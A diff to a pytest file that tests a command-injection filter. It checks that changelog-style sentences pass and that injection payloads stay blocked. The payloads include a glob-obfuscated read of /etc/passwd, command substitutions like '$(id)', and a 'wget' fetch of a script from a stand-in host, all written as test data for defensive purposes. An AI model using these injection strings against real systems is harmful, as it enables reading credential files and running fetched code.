@@ -296,6 +296,27 @@ def test_paths_in_command_lines_still_block(value):
     assert blocked(value), (value, verdict(value))
 
 
+@pytest.mark.parametrize("value", [
+    # connectives around named options and paths (changelog style)
+    "Set CFLAGS to -g -O2 for build (closes: #181268)", "Call python with -S when checking the minimal set of modules.",
+    "Mount /proc with -o compatible on HURD only", "Split documentation into a -doc package to avoid problems",
+    # globs that pin no letter, manual page references, Makefile variables
+    "[powerpc*] Don't clobber f0/vs0 during fp|altivec register save", "change x-dev to libxcursor-dev (???), and",
+    "sftp(1)/scp(1): degrade gracefully if a server lacks limits", "Added $(MAKE) regtest to check valgrind",
+    "vdso: Use $(LD) instead of $(CC) to link vDSO",
+])
+def test_changelog_sentences_pass(value):
+    assert not blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", [
+    "|/???/??t /e??/p?ss??", ";/bin/c?t /etc/hosts", "x`[c]at /etc/hosts`", "$(WHOAMI)", "$(id)", "`uname -a`",
+    "time sh -c whoami", "& set /a 7*7 &", "| wget http://x/a.sh -O /tmp/a.sh", "; ls -la /tmp and more",
+])
+def test_command_lines_still_block_next_to_the_changelog_rules(value):
+    assert blocked(value), (value, verdict(value))
+
+
 def test_sentences_stay_visible_as_medium():
     """Not dropped: a capitalised or sentence-shaped command line still reports, needing company."""
     for value in ("CURL module for PHP", "GCC support library (sh4)", "tmux session manager"):
